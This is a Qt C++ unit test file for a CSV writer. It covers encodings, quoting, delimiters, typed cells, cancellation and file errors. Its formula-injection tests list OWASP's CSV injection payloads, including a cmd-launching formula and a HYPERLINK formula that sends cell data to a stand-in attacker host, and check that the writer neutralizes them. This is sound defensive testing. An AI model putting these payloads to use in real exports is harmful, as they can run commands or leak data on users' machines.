#include "core/FileFixtures.h"
#include "core/SecurityFixtures.h"
#include "csv/CsvWriter.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>

#include <cmath>
#include <unistd.h>

using namespace Qt::StringLiterals;
using FileFixtures::Bom;
using FileFixtures::fileBytes;

Q_DECLARE_METATYPE(CsvEncoding)
Q_DECLARE_METATYPE(CsvDelimiter)
Q_DECLARE_METATYPE(CsvColumnType)

// Every test reads the bytes of the file back: what Excel and other programs get to see.
class tst_CsvWriter : public QObject
{
    Q_OBJECT

    QTemporaryDir m_dir;
    int m_file = 0;

    QString nextPath() { return m_dir.filePath(u"out%1.csv"_s.arg(++m_file)); }

    // Writes one column of the type with the given values; returns the bytes after the BOM and
    // the header line "h\r\n".
    QByteArray oneColumn(CsvColumnType type, const QVariantList &values, CsvOptions options = {})
    {
        const QString path = nextPath();
        CsvWriter writer(path, {{u"h"_s, type}}, options);
        if (!writer.open())
            return "<open failed>";
        for (const QVariant &v : values)
            if (!writer.writeRow({v}))
                return "<write failed>";
        if (!writer.commit())
            return "<commit failed>";
        QByteArray bytes = fileBytes(path);
        if (options.encoding == CsvEncoding::Utf8Bom) {
            if (!bytes.startsWith(Bom))
                return "<no BOM>";
            bytes.remove(0, Bom.size());
        }
        if (!bytes.startsWith("h\r\n"))
            return "<no header>";
        return bytes.mid(3);
    }

private Q_SLOTS:
    void initTestCase() { QVERIFY(m_dir.isValid()); }

    void encodings_data()
    {
        QTest::addColumn<CsvEncoding>("encoding");
        QTest::addColumn<QByteArray>("expected");
        // The default: UTF-8 with the BOM that Excel needs.
        QTest::newRow("UTF-8 with BOM")
                << CsvOptions().encoding << Bom + u"姓名\r\n王芳\U00020000\r\n"_s.toUtf8();
        QTest::newRow("UTF-8") << CsvEncoding::Utf8
                               << QByteArray("\xE5\xA7\x93\xE5\x90\x8D\r\n\xE7\x8E\x8B\xE8\x8A\xB3"
                                             "\xF0\xA0\x80\x80\r\n");
        // 王芳 in two bytes each; U+20000 (a CJK Extension B character) in four.
        QTest::newRow("GB18030")
                << CsvEncoding::Gb18030
                << QByteArray("\xD0\xD5\xC3\xFB\r\n\xCD\xF5\xB7\xBC\x95\x32\x82\x36\r\n");
    }
    void encodings()
    {
        QFETCH(CsvEncoding, encoding);
        QFETCH(QByteArray, expected);
        CsvOptions options;
        options.encoding = encoding;
        const QString path = nextPath();
        CsvWriter writer(path, {{u"姓名"_s}}, options);
        VERIFY_OK(writer.open());
        VERIFY_OK(writer.writeRow({u"王芳\U00020000"_s}));
        VERIFY_OK(writer.commit());
        QCOMPARE(writer.rowCount(), 1);
        QCOMPARE(fileBytes(path), expected);
    }

    void recordsEndInCrLfAndEmptyCellsStayEmpty()
    {
        const QString path = nextPath();
        CsvWriter writer(path, {{u"a"_s}, {u"b"_s}, {u"c"_s}});
        VERIFY_OK(writer.open());
        VERIFY_OK(writer.writeRow({u"1"_s, QVariant(), u""_s}));
        VERIFY_OK(writer.writeRow({u"x"_s})); // missing values are empty
        VERIFY_OK(writer.commit());
        QCOMPARE(fileBytes(path), Bom + "a,b,c\r\n1,,\r\nx,,\r\n");
    }

    // Each value in a one-column file of a type: the cell as it is in the file.
    void cells_data()
    {
        QTest::addColumn<CsvColumnType>("type");
        QTest::addColumn<QVariant>("value");
        QTest::addColumn<QByteArray>("cell");
        const auto text = [](const char *name, const QString &value, const QByteArray &cell) {
            QTest::newRow(name) << CsvColumnType::Text << QVariant(value) << cell;
        };
        // Quoting (RFC 4180).
        text("plain", u"plain text"_s, "plain text");
        text("comma", u"a,b"_s, "\"a,b\"");
        text("semicolon", u"a;b"_s, "\"a;b\"");
        text("quote", u"say \"hi\""_s, "\"say \"\"hi\"\"\"");
        text("only quotes", u"\"\""_s, "\"\"\"\"\"\"");
        text("LF", u"line 1\nline 2"_s, "\"line 1\nline 2\"");
        text("CR", u"a\rb"_s, "\"a\rb\"");
        text("CRLF", u"a\r\nb"_s, "\"a\r\nb\"");
        text("tab inside", u"a\tb"_s, "\"a\tb\"");
        text("Chinese comma is no delimiter", u"你好，世界"_s, u"你好，世界"_s.toUtf8());

        // Formula injection: every leading character of the rule and OWASP's examples.
        text("=", u"=1+2"_s, "'=1+2");
        text("+", u"+1+2"_s, "'+1+2");
        text("-", u"-1+2"_s, "'-1+2");
        text("@", u"@SUM(A1)"_s, "'@SUM(A1)");
        text("TAB first", u"\t=1"_s, "\"'\t=1\"");
        text("CR first", u"\r=1"_s, "\"'\r=1\"");
        text("LF first", u"\n=1"_s, "\"'\n=1\"");
        text("NUL first", QString(QChar(u'\0')) + u"=1"_s, QByteArray("'\0=1", 4));
        text("OWASP cmd", u"=cmd|' /C calc'!A0"_s, "'=cmd|' /C calc'!A0");
        text("OWASP hyperlink",
             u"=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")"_s,
             "\"'=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"Click\"\")\"");
        text("OWASP @SUM", u"@SUM(1+9)*cmd|' /C calc'!A0"_s, "'@SUM(1+9)*cmd|' /C calc'!A0");
        text("OWASP -2+3", u"-2+3+cmd|' /C calc'!A0"_s, "'-2+3+cmd|' /C calc'!A0");
        text("inside is fine", u"a=1"_s, "a=1");
        text("email", u"wang@example.cn"_s, "wang@example.cn");

        // Identifiers stay text in Excel; a value that is not one is a neutralized text cell.
        const auto id = [](const char *name, const QVariant &value, const QByteArray &cell) {
            QTest::newRow(name) << CsvColumnType::Identifier << value << cell;
        };
        id("mobile", u"13812345678"_s, "\"=\"\"13812345678\"\"\"");
        id("leading zero", u"0755-2345678"_s, "\"=\"\"0755-2345678\"\"\"");
        id("ID number", u"11010519491231002X"_s, "\"=\"\"11010519491231002X\"\"\"");
        id("masked", u"138****5678"_s, "\"=\"\"138****5678\"\"\"");
        id("formatted", u"+86 138 1234 5678"_s, "\"=\"\"+86 138 1234 5678\"\"\"");
        id("order number", qint64(4000123456789012), "\"=\"\"4000123456789012\"\"\"");
        id("empty", u""_s, "");
        id("quote", u"1\",cmd"_s, "\"1\"\",cmd\"");
        id("formula", u"=1+1"_s, "'=1+1");
        id("Chinese", u"订单123"_s, u"订单123"_s.toUtf8());
        id("too long", QString(256, u'1'), QByteArray(256, '1'));

        // Numbers, money and dates in one locale-free form.
        const auto typed = [](const char *name,
                              CsvColumnType type,
                              const QVariant &value,
                              const QByteArray &cell) {
            QTest::newRow(name) << type << value << cell;
        };
        typed("integer", CsvColumnType::Integer, 42, "42");
        typed("negative integer is a number", CsvColumnType::Integer, qint64(-7), "-7");
        typed("integer column, text value", CsvColumnType::Integer, u"-1+cmd"_s, "'-1+cmd");
        typed("money", CsvColumnType::Money, qint64(12345), "123.45");
        typed("money cents", CsvColumnType::Money, 5, "0.05");
        typed("money zero", CsvColumnType::Money, 0, "0.00");
        typed("money negative", CsvColumnType::Money, qint64(-100001), "-1000.01");
        typed("money min",
              CsvColumnType::Money,
              std::numeric_limits<qint64>::min(),
              "-92233720368547758.08");
        typed("decimal", CsvColumnType::Decimal, 3.5, "3.50");
        typed("decimal rounds to two places", CsvColumnType::Decimal, 100.0 / 3, "33.33");
        typed("decimal negative is a number", CsvColumnType::Decimal, -12.5, "-12.50");
        typed("decimal from an integer", CsvColumnType::Decimal, 7, "7.00");
        typed("decimal not finite", CsvColumnType::Decimal, std::nan(""), "");
        typed("decimal column, text value", CsvColumnType::Decimal, u"=1+1"_s, "'=1+1");
        typed("percent", CsvColumnType::Percent, 50.0, "50.00");
        typed("percent negative", CsvColumnType::Percent, -100.0, "-100.00");
        typed("no percent", CsvColumnType::Percent, QVariant(QMetaType::fromType<double>()), "");
        typed("date", CsvColumnType::Date, QDate(2025, 6, 5), "2025-06-05");
        typed("no date", CsvColumnType::Date, QDate(), "");
        const QDateTime utc(QDate(2025, 6, 15), QTime(1, 30, 59), Qt::UTC);
        typed("date time, local",
              CsvColumnType::DateTime,
              utc,
              utc.toLocalTime().toString(u"yyyy-MM-dd HH:mm"_s).toLatin1());
    }
    void cells()
    {
        QFETCH(CsvColumnType, type);
        QFETCH(QVariant, value);
        QFETCH(QByteArray, cell);
        QCOMPARE(oneColumn(type, {value}), cell + "\r\n");
    }

    void delimiters_data()
    {
        QTest::addColumn<CsvDelimiter>("delimiter");
        QTest::addColumn<QByteArray>("expected");
        QTest::newRow("comma") << CsvDelimiter::Comma << QByteArray("a,b\r\n1,\"x,y\"\r\n");
        QTest::newRow("semicolon") << CsvDelimiter::Semicolon << QByteArray("a;b\r\n1;\"x,y\"\r\n");
        QTest::newRow("tab") << CsvDelimiter::Tab << QByteArray("a\tb\r\n1\t\"x,y\"\r\n");
    }
    void delimiters()
    {
        QFETCH(CsvDelimiter, delimiter);
        QFETCH(QByteArray, expected);
        CsvOptions options;
        options.encoding = CsvEncoding::Utf8;
        options.delimiter = delimiter;
        const QString path = nextPath();
        CsvWriter writer(path, {{u"a"_s}, {u"b"_s}}, options);
        VERIFY_OK(writer.open());
        VERIFY_OK(writer.writeRow({1, u"x,y"_s}));
        VERIFY_OK(writer.commit());
        QCOMPARE(fileBytes(path), expected);
    }

    void headersAreNeutralizedToo()
    {
        const QString path = nextPath();
        CsvWriter writer(path, {{u"=evil()"_s}});
        VERIFY_OK(writer.open());
        VERIFY_OK(writer.commit());
        QCOMPARE(fileBytes(path), Bom + "'=evil()\r\n");
    }

    void dateTimeIsShownInLocalTime()
    {
        const QByteArray tz = qgetenv("TZ");
        qputenv("TZ", "Asia/Shanghai");
        const QByteArray cell = oneColumn(CsvColumnType::DateTime,
                                          {QDateTime(QDate(2025, 6, 15), QTime(17, 5), Qt::UTC)});
        tz.isNull() ? qunsetenv("TZ") : qputenv("TZ", tz);
        QCOMPARE(cell, QByteArray("2025-06-16 01:05\r\n"));
    }

    void manyRowsAreAllWritten()
    {
        const QString path = nextPath();
        CsvWriter writer(path, {{u"n"_s, CsvColumnType::Integer}, {u"t"_s}});
        VERIFY_OK(writer.open());
        for (int i = 0; i < 20000; ++i)
            VERIFY_OK(writer.writeRow({i, u"王芳"_s}));
        VERIFY_OK(writer.commit());
        const QList<QByteArray> lines = fileBytes(path).split('\n');
        QCOMPARE(lines.size(), 20002); // header, rows, and the empty piece after the last LF
        QCOMPARE(lines.at(20000), u"19999,王芳\r"_s.toUtf8());
    }

    void cancelLeavesNoFile()
    {
        const QString path = nextPath();
        int asked = 0;
        CsvWriter writer(path, {{u"n"_s, CsvColumnType::Integer}});
        writer.setCancelCheck([&] { return ++asked > 3; });
        VERIFY_OK(writer.open());
        for (int i = 0; i < 3; ++i)
            VERIFY_OK(writer.writeRow({i}));
        const Status cancelled = writer.writeRow({3});
        QVERIFY(!cancelled);
        QCOMPARE(cancelled.error().code, Error::Code::Cancelled);
        QVERIFY(!writer.commit());
        QVERIFY(!QFile::exists(path));
        QCOMPARE(QDir(m_dir.path())
                         .entryList({u"%1*"_s.arg(QFileInfo(path).fileName())},
                                    QDir::Files | QDir::Hidden),
                 QStringList());
    }

    void cancelKeepsAnExistingFile()
    {
        const QString path = nextPath();
        {
            QFile old(path);
            QVERIFY(old.open(QIODevice::WriteOnly));
            old.write("old");
        }
        {
            CsvWriter writer(path, {{u"n"_s}});
            VERIFY_OK(writer.open());
            VERIFY_OK(writer.writeRow({u"new"_s}));
            writer.cancel();
        }
        QCOMPARE(fileBytes(path), QByteArray("old"));
        {
            CsvWriter writer(path, {{u"n"_s}});
            VERIFY_OK(writer.open());
            VERIFY_OK(writer.writeRow({u"new"_s}));
        } // destroyed without commit
        QCOMPARE(fileBytes(path), QByteArray("old"));
        QCOMPARE(QDir(m_dir.path())
                         .entryList(QDir::Files | QDir::Hidden)
                         .filter(QFileInfo(path).fileName()),
                 QStringList {QFileInfo(path).fileName()});
    }

    void unwritableDirectoryIsAClearError()
    {
        // A directory nobody may create files in, root included.
        QString dir = u"/proc/self"_s;
        if (!QFileInfo(dir).isDir()) {
            dir = m_dir.filePath(u"readonly"_s);
            QVERIFY(QDir().mkpath(dir));
            QVERIFY(QFile::setPermissions(dir, QFile::ReadOwner | QFile::ExeOwner));
            if (::geteuid() == 0)
                QSKIP("root writes into any directory and there is no /proc here");
        }
        const QString path = dir + u"/export.csv"_s;
        CsvWriter writer(path, {{u"n"_s}});
        const Status opened = writer.open();
        QVERIFY(!opened);
        QCOMPARE(opened.error().code, Error::Code::File);
        QVERIFY2(opened.error().message.contains(QDir::toNativeSeparators(path)),
                 qPrintable(opened.error().message));
        QVERIFY(!QFile::exists(path));
        QVERIFY(!writer.writeRow({u"x"_s}));
        QVERIFY(!writer.commit());
    }

    void missingDirectoryIsAClearError()
    {
        const QString path = m_dir.filePath(u"no such folder/export.csv"_s);
        CsvWriter writer(path, {{u"n"_s}});
        const Status opened = writer.open();
        QVERIFY(!opened);
        QVERIFY(opened.error().message.contains(QDir::toNativeSeparators(path)));
        QVERIFY(!QFileInfo::exists(m_dir.filePath(u"no such folder"_s)));
    }
};

QTEST_GUILESS_MAIN(tst_CsvWriter)
#include "tst_csvwriter.moc"
